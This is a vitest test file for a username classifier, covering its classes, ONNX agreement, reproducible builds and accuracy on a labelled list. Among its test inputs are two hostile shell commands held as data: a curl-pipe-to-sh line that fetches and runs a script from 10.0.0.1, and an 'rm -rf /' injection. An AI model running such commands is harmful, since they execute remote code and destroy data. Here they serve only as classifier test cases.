/** The username classifier: what it tells apart, that its ONNX agrees, and how it does on public lists. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { InferenceSession, Tensor } from 'onnxruntime-node';
import { describe, expect, it } from 'vitest';
import { buildClassifier } from '../models/username/build.ts';
import { CLASSES } from '../models/username/classes.ts';
import { classifyUsername } from '../models/username/classify.ts';
import { usernameFeatures, WIDTH } from '../models/username/features.ts';

const generated = fileURLToPath(new URL('../models/username/generated/', import.meta.url));
const lists = fileURLToPath(new URL('../../shared/data/usernames/labelled.csv', import.meta.url));

describe('classifyUsername', () => {
  it.each([
    ['ls -la /tmp', 'command'],
    ['curl http://10.0.0.1/x.sh | sh', 'command'],
    ['j.smith', 'username'],
    ['www-data', 'service'],
    ['svc_backup', 'service'],
    ['P@ssw0rd!2024', 'password'],
  ])('%s is a %s', (text, type) => {
    expect(classifyUsername(text).predicted_type).toBe(type);
  });

  it('takes any string: probabilities are finite and sum to 1', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
        const { probabilities, confidence } = classifyUsername(text);
        const sum = Object.values(probabilities).reduce((total, value) => total + value, 0);
        expect(sum).toBeCloseTo(1, 9);
        expect(confidence).toBeGreaterThanOrEqual(0.25 - 1e-9);
      }),
    );
  });

  it.each(['', ' ', '\u0000', '\ud800\u0000', '...'])('names no class for %j, which has no letter or digit', (text) => {
    expect(classifyUsername(text).predicted_type).toBe('unknown');
  });

  it('reads the first 256 units only', () => {
    const head = 'a'.repeat(256);
    expect(classifyUsername(`${head}; rm -rf / | sh`)).toEqual(classifyUsername(head));
  });
});

it('the ONNX agrees with the classifier to a relative 1e-5', async () => {
  const session = await InferenceSession.create(join(generated, 'ngram.onnx'));
  await fc.assert(
    fc.asyncProperty(fc.string({ maxLength: 40 }), async (text) => {
      const row = new Float32Array(WIDTH);
      for (const [index, value] of usernameFeatures(text)) row[index] = value;
      const { probabilities } = await session.run({ features: new Tensor('float32', row, [1, WIDTH]) });
      const expected = classifyUsername(text).probabilities;
      for (const [k, name] of CLASSES.entries()) {
        const actual = Number(probabilities?.data[k]);
        expect(Math.abs(actual - expected[name])).toBeLessThanOrEqual(1e-5 * Math.max(1e-3, expected[name]) + 1e-7);
      }
    }),
    { numRuns: 50 },
  );
});

it('building it again gives the committed bytes', () => {
  for (const [name, contents] of buildClassifier()) {
    expect(Buffer.from(contents).equals(readFileSync(join(generated, name))), name).toBe(true);
  }
});

/** Rows of a CSV with quoted fields (RFC 4180). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n|$)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.length >= 3);
}

const missing = existsSync(lists) ? '' : 'needs ../shared/data/usernames';

it.skipIf(missing !== '')(
  `beats the majority class on public lists it never saw${missing && ` [skipped: ${missing}]`}`,
  () => {
    const rows = csvRows(readFileSync(lists, 'utf8')).slice(1);
    const counts = new Map<string, { right: number; unknown: number; all: number }>();
    const labels = new Map<string, number>();
    let right = 0;
    for (const [text = '', label = '', source = ''] of rows) {
      const { predicted_type, probabilities } = classifyUsername(text);
      const [best] = CLASSES.toSorted((a, b) => probabilities[b] - probabilities[a]);
      const tally = counts.get(`${label} (${source})`) ?? { right: 0, unknown: 0, all: 0 };
      tally.all++;
      if (best === label) {
        tally.right++;
        right++;
      }
      if (predicted_type === 'unknown') tally.unknown++;
      counts.set(`${label} (${source})`, tally);
      labels.set(label, (labels.get(label) ?? 0) + 1);
    }
    const majority = Math.max(...labels.values()) / rows.length;
    const lines = [...counts].map(
      ([name, tally]) =>
        `${name}: recall ${(tally.right / tally.all).toFixed(3)}, unknown ${(tally.unknown / tally.all).toFixed(3)} of ${tally.all}`,
    );
    console.log(
      `accuracy ${(right / rows.length).toFixed(3)}, majority class ${majority.toFixed(3)}\n${lines.join('\n')}`,
    );
    expect(right / rows.length).toBeGreaterThan(majority);
  },
);
